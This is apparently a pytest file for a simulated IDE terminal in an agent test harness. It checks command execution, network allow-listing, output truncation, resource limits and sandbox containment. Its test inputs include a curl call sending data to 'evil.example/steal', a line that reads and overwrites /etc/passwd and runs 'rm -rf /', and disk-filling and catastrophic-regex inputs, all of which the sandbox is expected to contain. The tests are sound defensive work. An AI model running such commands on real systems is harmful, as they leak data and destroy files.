"""What the terminal runs, waits for and asks others for; and its bounds."""

from __future__ import annotations

from typing import Any

import pytest

from simharness.models.ide.initial import Start
from simharness.models.ide.runner import INSTANT, ProgramRun, SuiteRun
from simharness.models.ide.terminal.cut import cut
from tests.models.ide_house import House
from tests.models.ide_real import house_of, typed
from tests.models.ide_runner import Scripted


def test_what_a_line_did_before_it_runs_something_is_done() -> None:
    house = House()
    running = house.start("run_command", command="echo x > made; python -c 1; rm made")
    house.wait("1ms")
    assert house.text("made") == "x\n"
    house.ended(running)
    assert house.text("made") is None


def test_python_runs_over_the_files_as_they_are_and_its_files_come_back() -> None:
    program = ProgramRun(
        exit_code=3,
        stdout="out\n",
        stderr="err\n",
        files={"made.txt": "made\n", "README.md": None},
        fuel=2_000_000_000,
    )
    runner = Scripted(program)
    house = House(runner=runner)
    before = house.world.ticks
    line = "cd src && echo 'a = 1' > a.py; echo in | python a.py --flag 2>&1; echo $?"
    told = typed(house, line)
    assert (told.stdout, told.stderr) == ("out\nerr\n3\n", "")
    files, arguments, stdin, folder = runner.asked[0]
    assert files["src/a.py"] == "a = 1\n"
    assert (arguments, stdin, folder) == (("a.py", "--flag"), "in\n", "src")
    assert house.text("made.txt") == "made\n"
    assert house.text("README.md") is None
    assert house.world.ticks - before == 2_000_000


@pytest.mark.parametrize(
    ("line", "arguments", "stdin"),
    [
        ("python -c 'print(1)' a", ("-c", "print(1)", "a"), ""),
        ("python3 -m pytest -q tests", ("-m", "pytest", "-q", "tests"), ""),
        ("pytest tests", ("-m", "pytest", "tests"), ""),
        ("python - x <<'E'\nprint(2)\nE", ("-c", "print(2)\n", "x"), ""),
        ("echo 'print(3)' | python", ("-c", "print(3)\n"), ""),
        ("python -u src/shop.py < README.md", ("src/shop.py",), "# Shop\n\nA small shop.\n"),
    ],
)
def test_python_is_asked_what_the_line_says(
    line: str, arguments: tuple[str, ...], stdin: str
) -> None:
    runner = Scripted()
    assert typed(House(runner=runner), line).stdout == "ran\n"
    assert runner.asked[0][1:3] == (arguments, stdin)


@pytest.mark.parametrize(
    ("line", "code", "said"),
    [
        ("python nowhere.py", 2, "python: can't open file 'nowhere.py': [Errno 2] No such file"),
        ("python src", 2, "python: can't open file 'src': [Errno 21] Is a directory"),
        ("python -m http.server", 1, "No module named http.server"),
        ("python -c", 2, "Argument expected for the -c option"),
        ("python -Z", 2, "Unknown option: -Z"),
        ("cd / && python -c 1", 2, "code is run in the repository only"),
    ],
)
def test_python_says_what_it_cannot_run(line: str, code: int, said: str) -> None:
    runner = Scripted()
    told = typed(House(runner=runner), line)
    assert (told.exit_code, runner.asked) == (code, [])
    assert said in told.stderr


def test_tests_are_told_by_name_and_kept() -> None:
    runner = Scripted()
    house = House(runner=runner)
    told = house.call("run_tests", paths=["tests"])
    assert (told["passed"], told["failed"]) == (1, 1)
    assert told["tests"][1] == {
        "id": "tests/test_a.py::test_two",
        "outcome": "failed",
        "message": "1 != 2",
    }
    rows = list(house.ide.test_results.table)
    assert [(row.job_id, row.outcome) for row in rows] == [(0, "passed"), (0, "failed")]
    assert runner.asked[0][1] == ("tests",)
    assert house.world.ticks == 3_000_000


def test_no_host_is_reached_but_those_that_the_task_lists_and_each_try_is_kept() -> None:
    house = House(start=Start(pages={"docs.example": "a page\n"}))
    assert typed(house, "curl -s https://docs.example/x").stdout == "a page\n"
    told = typed(house, "curl https://evil.example/steal?x=1 http://docs.example -o page")
    assert told.exit_code == 6
    assert told.stderr == "curl: (6) Could not resolve host: evil.example\n"
    assert house.text("page") == "a page\n"
    rows = [(row.host, row.answered) for row in house.ide.requests.table]
    assert rows == [("docs.example", True), ("evil.example", False), ("docs.example", True)]
    assert typed(house, "curl").exit_code == 2
    assert typed(house, "curl ::::").exit_code == 3


def test_sleep_takes_simulated_time_and_lets_others_work() -> None:
    house = House()
    sleeping = house.start("run_command", command="echo a > first; sleep 2; cat second")
    pushing = house.start("write_file", after="1s", path="second", content="b\n")
    told, _ = house.ended(sleeping, pushing)
    assert told["stdout"] == "b\n"
    assert house.world.ticks == 2_000_000
    assert typed(house, "sleep x").exit_code == 1


@pytest.mark.parametrize(("fate", "seconds"), [("reaped", 0), ("hang", 300)])
def test_what_runs_in_the_background_ends_with_the_line(fate: str, seconds: int) -> None:
    house = House({"terminal.background": fate})
    told = typed(house, "sleep 100 & echo now")
    assert (told.stdout, house.world.ticks) == ("now\n", seconds * 1_000_000)
    waited = typed(house, "echo late & echo soon; wait")
    assert waited.stdout == "soon\nlate\n"


FAMILY = "\U0001f468\u200d\U0001f469\u200d\U0001f467"


@pytest.mark.parametrize(
    ("text", "most", "kept"),
    [
        ("abc", 3, "abc"),
        ("abcd", 3, "abc"),
        (f"ab{FAMILY}c", 4, "ab"),
        (f"ab{FAMILY}c", 7, f"ab{FAMILY}"),
        ("ae\u0301", 2, "a"),
        ("a\r\nb", 2, "a"),
        ("a\ud83d\ude00", 2, "a"),
        ("\ufeffab\0c", 3, "\ufeffab"),
        (FAMILY, 1, ""),
    ],
)
def test_output_is_cut_between_characters_and_says_so(text: str, most: int, kept: str) -> None:
    assert cut(text, most) == kept
    house = House({"terminal.max_output": most}, start=Start(files={"f": text}))
    told = house.call("run_command", command="cat f")
    assert told["stdout"] == kept
    whole = kept == text
    assert told["cut"] == ({} if whole else {"stdout": {"shown": len(kept), "total": len(text)}})


def test_a_line_cannot_fill_the_machine() -> None:
    house = house_of({"a": "x" * 19_999 + "\n"})
    doubled = "; ".join("cat a a a a a a a a > b; cat b b b b > a" for _ in range(4))
    told = typed(house, doubled)
    assert "No space left on device" in told.stderr or told.exit_code == 1
    assert house.ide.tree.entries["a"].text
    assert len("".join(f.text for f in house.ide.tree.entries.values())) < 8_000_000
    assert typed(house, "echo " + "{a,b}" * 40).exit_code == 1
    many = typed(house, "touch " + "{a,b}" * 12)
    assert (many.exit_code, "No space left on device" in many.stderr) == (1, True)
    assert len(house.ide.tree.entries) == 3_000
    assert typed(house, "(" * 60 + "true" + ")" * 60).exit_code == 2


@pytest.mark.parametrize("pattern", ["(a*)*b", "(a|aa)+$", "a*a*a*a*a*a*c", "(x+x+)+y"])
def test_no_pattern_keeps_the_harness_busy(pattern: str) -> None:
    house = house_of({"a": "a" * 5_000 + "x" * 5_000 + "\n"})
    assert typed(house, f"grep -E '{pattern}' a").exit_code in (0, 1)
    assert typed(house, "echo " + "*a" * 30 + "b").exit_code == 0


def test_what_the_terminal_does_is_in_the_tables_and_breaks_nothing() -> None:
    house = House()
    typed(house, "mkdir -p e/f; mv src/shop.py e; rm README.md; echo x >> src/money.py")
    assert house.text("e/shop.py") is not None
    assert house.text("README.md") is None
    assert house.call("list_files", path="e")["files"][0]["path"] == "e/shop.py"
    typed(house, "cat /etc/passwd; echo x > /etc/passwd; rm -rf /; ls /")
    assert house.text("e/shop.py") is not None
    assert house.findings() == []


@pytest.mark.parametrize(("ticks", "begun"), [(False, {0}), (True, {3, 5, 13})])
def test_time_passes_for_code_only_where_the_clock_ticks(ticks: bool, begun: set[int]) -> None:
    class Clocked(Scripted):
        def run_tests(self, op: Any, files: Any, paths: Any, instant: int = INSTANT) -> SuiteRun:
            seen.append(instant)
            return super().run_tests(op, files, paths, instant)

        def run_python(
            self, op: Any, files: Any, arguments: Any, stdin: str, folder: str, instant: int = 0
        ) -> ProgramRun:
            seen.append(instant)
            return super().run_python(op, files, arguments, stdin, folder, instant)

    seen: list[int] = []
    house = House(runner=Clocked(suite=SuiteRun(tests=())))
    house.ide.clock_ticks = ticks
    house.wait("3400ms")
    house.call("run_tests")
    house.wait("2s")
    house.call("run_command", command="python -c 1")
    house.wait("1min")
    house.wait("8s")
    house.call("run_command", command="python -c 1")
    start = INSTANT - INSTANT % 60_000_000 if ticks else INSTANT
    assert {(instant - start) // 1_000_000 for instant in seen} == begun
    # The steps of CI are longer.
    house.call("repo.push", branch="topic", files={"N": ""}, message="N")
    house.wait("1s")
    assert seen[-1] == start + 10_000_000 * ticks
